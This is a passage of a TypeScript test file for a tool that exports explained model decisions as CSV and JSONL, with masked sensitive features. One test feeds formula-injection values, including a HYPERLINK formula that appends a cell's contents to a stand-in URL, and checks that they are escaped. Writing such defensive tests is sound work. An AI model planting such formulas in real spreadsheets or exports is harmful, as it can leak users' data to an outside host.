  it('exports the explained rows as CSV (with a byte-order mark) in file order, masked features masked', () => {
    const csv = resultsCsv(rows, { kept: [], maskedLabel: masked(MASKED) });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
    expect(parsed.data.map((r) => r.line)).toEqual(['2', '3', '5']);
    expect(parsed.data[1]!.decision).toBe('declined');
    expect(parsed.data[0]!.top_attributions).toBe('职业类型: 0.2000; 敏感特征（已脱敏）: -0.9000');
    expect(csv).not.toContain('Income');
  });

  it('exports text that a spreadsheet would run as a formula with a leading quote, numbers as numbers', () => {
    // A model bundle's wording is its author's: a label or a reason may start as a formula does.
    const [job, masked] = fakeDoc(2, 0.7).attributions;
    const doc = fakeDoc(2, 0.7, {
      attributions: [{ ...job!, label: '=HYPERLINK("http://x.example/?"&A2,"Job")' }, masked!],
      reasons: [{ feature: 'Job', attribution: -0.2, description: '@SUM(1+1)\nmore' }],
      rest_sum: -0.25,
    });
    const csv = resultsCsv(resultRows([{ line: 2, ok: true, doc }]), {
      kept: [],
      maskedLabel: () => 'sensitive_abc',
    });
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
    expect(parsed.data[0]!.top_attributions).toBe(
      `'=HYPERLINK("http://x.example/?"&A2,"Job"): 0.2000; sensitive_abc: -0.9000`,
    );
    expect(parsed.data[0]!.reasons).toBe(`'@SUM(1+1)\nmore`);
    expect(csv).toContain(',-0.25,');
    for (const start of ['+', '-', '\t', '\r'])
      expect(problemsCsv([{ line: 3, kept: [], field: 'Debt', message: `${start}1` }])).toContain(
        `,"'${start}1"`,
      );
  });

  it('exports the signed documents unchanged, one per line', () => {
    const lines = resultsJsonl(rows).trim().split('\n');
    expect(lines).toHaveLength(3);
    expect(JSON.parse(lines[0]!)).toEqual(fakeDoc(2, 0.7));
  });

  it('exports the problems as CSV', () => {
    const csv = problemsCsv([{ line: 3, kept: [], field: '工龄', message: '请输入数字（当前为“x”）' }]);
    expect(csv).toBe('\uFEFFline,field,message\r\n3,工龄,请输入数字（当前为“x”）\r\n');
  });
});
